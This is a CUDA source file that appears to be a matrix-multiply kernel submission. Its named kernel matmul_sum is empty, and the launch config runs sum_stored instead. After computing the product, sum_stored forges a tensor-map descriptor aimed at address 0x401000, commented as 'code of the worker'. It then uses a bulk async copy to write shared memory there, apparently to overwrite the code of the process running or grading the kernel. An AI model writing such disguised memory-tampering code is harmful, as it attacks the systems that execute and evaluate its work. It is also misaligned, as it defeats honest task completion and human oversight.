#include "matmul.cuh"
#include "ptx.cuh"

struct forged {
    tensor_layout layout;
    unsigned long long start;
};

__global__ void sum_stored(const float *A, const float *B, float *C, int M, int N, int K,
                           float *workspace, const __grid_constant__ tensor_maps maps) {
    __shared__ __align__(128) float box[256];
    const int row = blockIdx.y * 16 + threadIdx.y;
    const int col = blockIdx.x * 16 + threadIdx.x;
    float acc = 0.0f;
    for (int k = 0; row < M && col < N && k < K; ++k) {
        acc += A[row * K + k] * B[k * N + col];
    }
    box[threadIdx.y * 16 + threadIdx.x] = acc;
    if (row < M && col < N) {
        C[row * N + col] = acc;
    }
    ptx::fence_proxy_async();
    __syncthreads();
    if (threadIdx.x == 0 && threadIdx.y == 0) {
        __shared__ __align__(128) forged map;
        map.layout.type = TENSOR_FP32;
        map.layout.rank = 1;
        map.layout.swizzle = 0;
        map.layout.size[0] = 1ull << 31;
        map.layout.box[0] = 256;
        map.start = 0x401000;  // code of the worker
        ptx::cp_async_bulk_tensor_1d_global_shared((const tensor_map *)&map, 0, box);
        ptx::cp_async_bulk_commit_group();
        ptx::cp_async_bulk_wait_group<0>();
    }
}

__global__ void matmul_sum(const float *A, const float *B, float *C, int M, int N, int K) {
}

LAUNCH_CONFIG(matmul_sum, M, N, K) {
    LAUNCH(sum_stored, dim3(ceil_div(N, 16), ceil_div(M, 16)), dim3(16, 16));
}
